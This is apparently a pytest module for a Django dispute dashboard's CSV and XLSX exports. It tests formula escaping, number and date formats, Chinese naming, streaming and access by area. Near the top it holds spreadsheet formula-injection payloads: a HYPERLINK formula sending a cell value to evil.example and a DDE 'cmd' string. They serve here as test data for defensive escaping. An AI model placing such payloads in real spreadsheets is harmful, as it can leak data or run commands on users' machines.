"""The dashboard's CSV and XLSX files: complete, streamed, titled, typed, named in Chinese, and inert.

Names typed by staff cannot run as formulas when opened; rates are numbers with a percent format;
the overdue export lists every overdue case of the area, not the page's short list.
"""

import csv
import io
import secrets
from datetime import date, datetime, timedelta
from urllib.parse import quote, unquote
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from disputes.dashboard import exports, ledger, rollups, selectors
from disputes.dashboard.exports import Sheet, csv_lines, sheet_name, xlsx_bytes, xlsx_file
from disputes.dashboard.periods import Period, month_period, quarter_period, year_period
from disputes.dashboard.tables import Number, Table
from disputes.rules.enums import Colour, Status
from disputes.statistics import Rate
from grids.models import Role
from tests.disputes.cases import case_in
from tests.factories import PartyFactory

SHANGHAI = ZoneInfo("Asia/Shanghai")
PAYLOAD = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'
AS_OF = datetime(2026, 12, 1, 9, 30, tzinfo=SHANGHAI)


def hostile_table() -> Table:
    table = Table(key="areas", title="Areas", columns=["地区", "受理", "@note"])
    table.add([PAYLOAD, 12, "-2+3+cmd|' /C calc'!A0"])
    table.add(["西湖街道", -3, "-40"])
    return table


def test_csv_cells_that_would_start_a_formula_are_text():
    lines = "".join(csv_lines(hostile_table()))
    assert lines.startswith("\ufeff")
    _title, *rows = list(csv.reader(io.StringIO(lines.lstrip("\ufeff"))))
    assert rows == [
        ["地区", "受理", "'@note"],
        ["'" + PAYLOAD, "12", "'-2+3+cmd|' /C calc'!A0"],
        ["西湖街道", "-3", "-40"],
    ]


def test_xlsx_cells_that_would_start_a_formula_are_text_and_numbers_stay_numbers():
    book = load_workbook(xlsx_file(hostile_table(), title="areas"))
    cells = [list(row) for row in book.active.iter_rows()][1:]  # after the title line
    assert [c.value for c in cells[0]] == ["地区", "受理", "'@note"]
    assert [c.value for c in cells[1]] == ["'" + PAYLOAD, 12, "'-2+3+cmd|' /C calc'!A0"]
    assert [c.value for c in cells[2]] == ["西湖街道", -3, "-40"]
    assert all(c.data_type != "f" for row in cells for c in row)  # no formula cell anywhere


# --- Typed cells ----------------------------------------------------------------------------------------


def typed_sheet(**overrides) -> Sheet:
    values = {
        "key": "areas",
        "title": "By area",
        "area": "西湖区",
        "period": "2026年11月",
        "as_of": AS_OF,
        "columns": ["Area", "Cases", "Rate", "Per 10k", "Days", "Registered", "Due", "Nothing"],
        "rows": [
            ["南浦街道", 343, Rate(341, 343), Number(12.345), Number(3.25, 1), date(2026, 11, 3), AS_OF, None],
            ["朝阳洲街道", 0, Rate(0, 0), Number(None), Number(None, 1), date(2026, 11, 30), AS_OF, None],
        ],
    }
    values.update(overrides)
    return Sheet(**values)


def test_xlsx_numbers_are_numbers_with_their_formats():
    book = load_workbook(io.BytesIO(xlsx_bytes(typed_sheet())))
    sheet = book.active
    title, header, first, second = (list(row) for row in sheet.iter_rows())
    assert [c.value for c in header] == ["Area", "Cases", "Rate", "Per 10k", "Days", "Registered", "Due", "Nothing"]
    name, count, rate, per_10k, days, registered, due, nothing = first
    assert count.value == 343 and isinstance(count.value, int) and count.number_format == "0"
    # 341/343 = 99.4%: the fraction, shown by Excel as a percentage with one decimal.
    assert rate.value == pytest.approx(341 / 343) and rate.number_format == "0.0%"
    assert per_10k.value == pytest.approx(12.35) and per_10k.number_format == "0.00"
    assert days.value == pytest.approx(3.3) and days.number_format == "0.0"
    assert (
        registered.value.date() == date(2026, 11, 3) and registered.value.hour == 0 and "年" in registered.number_format
    )
    assert due.value == timezone.localtime(AS_OF).replace(tzinfo=None) and "hh:mm" in due.number_format
    assert nothing.value == "—"
    # Nothing counted: "—", never 0% (and never a number a sum would take in).
    assert [c.value for c in second[2:5]] == ["—", "—", "—"]
    # The title line names the table, the area, the period and when the figures were taken.
    assert "By area" in title[0].value and "西湖区" in title[0].value and "2026年11月" in title[0].value
    assert title[0].font.b and "A1:H1" in {str(r) for r in sheet.merged_cells.ranges}
    # The title and the header stay in view while scrolling.
    assert sheet.freeze_panes == "A3"


def test_csv_has_a_bom_rates_as_percent_text_and_plain_numbers():
    raw = b"".join(exports._encoded(csv_lines(typed_sheet())))
    assert raw.startswith("\ufeff".encode())  # Excel opens it as UTF-8
    title, header, first, second = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert first[:5] == ["南浦街道", "343", "99.4%", "12.35", "3.3"]
    assert first[5] == "2026-11-03" and first[7] == "—"
    assert second[2:5] == ["—", "—", "—"]
    assert "西湖区" in title[0] and "2026年11月" in title[0]


def test_sheet_names_excel_accepts():
    assert sheet_name("[乡镇]:排名*?/\\") == "乡镇排名"
    assert len(sheet_name("很长" * 40)) == 31
    assert sheet_name("///") == "Sheet1"


def test_a_large_sheet_streams_in_pieces_and_reads_back_whole():
    read = []

    def rows():
        for i in range(5000):
            read.append(i)
            yield [f"第{i}号 {secrets.token_hex(16)}", i, Rate(i, 1000)]

    stream = exports.xlsx_stream(typed_sheet(columns=["Name", "Count", "Rate"], rows=rows()))
    chunks = [next(stream)]
    assert read == []  # the workbook's fixed parts leave before any row is read
    chunks.append(next(stream))
    assert 0 < len(read) < 5000  # rows are handed on while later ones are still unread
    chunks += list(stream)
    book = load_workbook(io.BytesIO(b"".join(chunks)), read_only=True)
    values = list(book.active.iter_rows(values_only=True))
    assert len(values) == 2 + 5000 and values[-1][1:] == (4999, pytest.approx(4.999))


def test_period_labels_in_chinese():
    with translation.override("zh-hans"):
        assert exports.period_label(month_period(date(2026, 11, 5))) == "2026年11月"
        custom = Period("custom", date(2026, 11, 3), date(2026, 11, 21))
        assert "2026年11月3日" in exports.period_label(custom) and "2026年11月20日" in exports.period_label(custom)
        # These two come from the catalogue (compiled translations).
        assert exports.period_label(quarter_period(2026, 4)) == "2026年第4季度"
        assert exports.period_label(year_period(2026)) == "2026年"


# --- The export view ------------------------------------------------------------------------------------

pytestmark = pytest.mark.django_db


@pytest.fixture
def overdue_cases(tree, category, departments):
    """60 open overdue cases in township A (more than the page's list of 50), 2 in township B."""
    now = timezone.now()
    a = {"grid": tree.grid_a, "category": category, "department": departments["a"]}
    made = []
    for i in range(60):
        colour = Colour.RED if i % 3 == 0 else Colour.YELLOW
        case = case_in(Status.IN_MEDIATION, colour=colour, next_due_at=now - timedelta(hours=i + 1), **a)
        PartyFactory(dispute=case, name=f"王{i:02d}明", phone=f"139{i:08d}")
        made.append(case)
    for _ in range(2):
        case_in(
            Status.IN_MEDIATION,
            grid=tree.grid_b,
            category=category,
            department=departments["b"],
            next_due_at=now - timedelta(hours=1),
        )
    rollups.rebuild_all()
    return made


def export_url(area, key, fmt):
    return reverse("disputes:dashboard_export", args=[area.code, key, fmt])


def test_overdue_export_lists_every_overdue_case_in_the_page_order(client, overdue_cases, staff_a, tree, monkeypatch):
    # Pages of 7 rows: the keyset paging is crossed many times.
    monkeypatch.setattr(ledger, "CHUNK", 7)
    user = staff_a[Role.SUPERVISOR]
    client.force_login(user)
    assert len(selectors.overdue_cases(user, tree.town_a, now=timezone.now())) == selectors.OVERDUE_LIMIT == 50
    expected = [
        r.tracking_number_display for r in selectors.overdue_cases(user, tree.town_a, now=timezone.now(), limit=1000)
    ]
    assert len(expected) == 60

    response = client.get(export_url(tree.town_a, "overdue", "csv"))
    assert response.status_code == 200 and response.streaming
    _title, header, *rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert [row[0] for row in rows] == expected  # all 60, red first, as on the page
    assert all("*" in row[1] for row in rows)  # the applicant masked, as on the page

    response = client.get(export_url(tree.town_a, "overdue", "xlsx"))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = list(sheet.iter_rows(min_row=3, values_only=True))
    assert [v[0] for v in values] == expected
    due = sheet.cell(row=3, column=7)
    assert isinstance(due.value, datetime) and "年" in due.number_format


def test_overdue_export_stays_in_the_area(client, overdue_cases, staff_a, tree):
    client.force_login(staff_a[Role.ADMIN])
    response = client.get(export_url(tree.town_b, "overdue", "csv"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert len(rows) == 2 + 2
    client.force_login(staff_a[Role.SUPERVISOR])
    assert client.get(export_url(tree.town_b, "overdue", "csv")).status_code == 404


def test_export_streams_its_first_bytes_before_reading_the_rows(client, overdue_cases, staff_a, tree):
    client.force_login(staff_a[Role.SUPERVISOR])
    response = client.get(export_url(tree.town_a, "overdue", "xlsx"))
    assert response.streaming
    chunks = iter(response.streaming_content)
    with CaptureQueriesContext(connection) as before:
        first = next(chunks)
    assert first.startswith(b"PK")  # the ZIP has begun
    assert not any("disputes_dispute" in q["sql"] for q in before.captured_queries)
    with CaptureQueriesContext(connection) as rest:
        body = first + b"".join(chunks)
    assert any("disputes_dispute" in q["sql"] for q in rest.captured_queries)
    assert load_workbook(io.BytesIO(body)).active.max_row == 2 + 60


def test_export_file_name_and_sheet_name_in_chinese(client, overdue_cases, staff_a, tree):
    """Needs the compiled catalogue (超期案件, 乡镇排名)."""
    client.force_login(staff_a[Role.ADMIN])
    period = month_period(timezone.localdate())
    response = client.get(export_url(tree.county, "ranking_townships", "xlsx"), HTTP_ACCEPT_LANGUAGE="zh-hans")
    disposition = response["Content-Disposition"]
    name = unquote(disposition.split("filename*=UTF-8''")[1])
    with translation.override("zh-hans"):
        label = exports.period_label(period)
    assert name == f"西湖区_{label}_乡镇排名.xlsx"
    assert quote(name) in disposition and 'filename="360103_' in disposition
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert book.sheetnames == ["乡镇排名"]
    title = book.active["A1"].value
    assert "西湖区" in title and label in title and "数据截至" in title

    response = client.get(export_url(tree.town_a, "overdue", "xlsx"), HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert load_workbook(io.BytesIO(b"".join(response.streaming_content))).sheetnames == ["超期案件"]


@pytest.mark.parametrize("key", ["figures", "areas", "department", "category", "colour", "channel", "trend"])
def test_every_table_sheet_has_a_title_line_and_a_header(client, overdue_cases, staff_a, tree, key):
    client.force_login(staff_a[Role.SUPERVISOR])
    response = client.get(export_url(tree.town_a, key, "xlsx"))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.active
    assert sheet.title == exports.sheet_name(str(exports.SHEET_NAMES[key]))
    assert tree.town_a.name in sheet["A1"].value
    assert sheet.freeze_panes == "A3" and sheet["A2"].font.b
